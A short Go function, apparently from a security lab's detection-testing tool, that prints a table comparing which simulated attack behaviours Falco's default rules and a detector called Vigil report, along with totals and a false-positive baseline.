// WriteTable prints the outcome: one line per behaviour, then the totals.
func (r *AttacksResult) WriteTable(w io.Writer) error {
	tw := tabwriter.NewWriter(w, 0, 0, 2, ' ', 0)
	fmt.Fprintln(tw, "BEHAVIOUR\tCLASS\tFALCO DEFAULT\tVIGIL\tSECONDS")
	for _, b := range r.Results {
		falco := "-"
		if b.Falco {
			falco = "claimed"
		}
		verdict, secs := "MISSED", "-"
		switch {
		case b.Skipped != "":
			verdict = "skipped: " + b.Skipped
		case b.Caught:
			verdict, secs = b.Rule, fmt.Sprintf("%.1f", b.Seconds)
		}
		fmt.Fprintf(tw, "%s\t%s\t%s\t%s\t%s\n", b.ID, b.Class, falco, verdict, secs)
	}
	if err := tw.Flush(); err != nil {
		return err
	}
	fmt.Fprintf(w, "\n%d of %d behaviours reported; of the %d Falco's default rules claim, %d.\n", r.Caught, r.Tried, r.FalcoClaimed, r.FalcoCaught)
	if len(r.Baseline) == 0 {
		fmt.Fprintln(w, "Baseline of ordinary administration: no report.")
	} else {
		fmt.Fprintf(w, "Baseline of ordinary administration: %d reports:\n", len(r.Baseline))
		for _, b := range r.Baseline {
			fmt.Fprintf(w, "  %s\n", b)
		}
	}
	fmt.Fprintf(w, "Dashboard (gone with the lab): %s\n", r.Dashboard)
	return nil
}
